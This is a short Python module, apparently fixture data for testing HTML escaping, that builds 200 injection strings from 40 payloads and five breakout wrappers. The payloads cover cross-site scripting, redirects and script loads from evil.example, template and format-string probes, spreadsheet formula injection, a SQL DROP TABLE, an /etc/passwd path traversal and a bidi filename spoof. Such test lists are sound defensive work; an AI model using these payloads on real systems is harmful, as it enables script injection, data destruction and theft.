"""Two hundred texts that would like to be more than text: forty, each behind five ways out of where text stands."""

_TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>press me</a>",
    "<form action=//evil.example><input name=csrf autofocus onfocus=alert(1)>",
    "<button formaction=//evil.example form=press>Synchronize</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=javascript:alert(1)></object>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<hx-partial hx-target=#rows hx-swap=innerHTML>gone</hx-partial>",
    "<div hx-get=/evil hx-trigger=load>",
    "<toast-line class=toast>All is sent</toast-line>",
    "<!-- <script>alert(1)</script>",
)
_WORDS = (
    "onmouseover=alert(1) x=",
    "autofocus onfocus=alert(1) tabindex=0",
    "style=position:fixed;inset:0",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "{{ 7*7 }}{% include 'x' %}${7*7}",
    "%(name)s %s {0} {name}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)",
    '=HYPERLINK("//evil.example","open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "' OR 1=1; DROP TABLE binding --",
    "../../../etc/passwd",
    "\u202egnp.exe\u2066 \u200b\ufeff",
)
_WAYS_OUT = ("{}", "\"'>{}", "' {} \"", "</td></title></textarea></pre>{}", "-->]]>{}")

PAYLOADS = [way.replace("{}", text) for text in (*_TAGS, *_WORDS) for way in _WAYS_OUT]
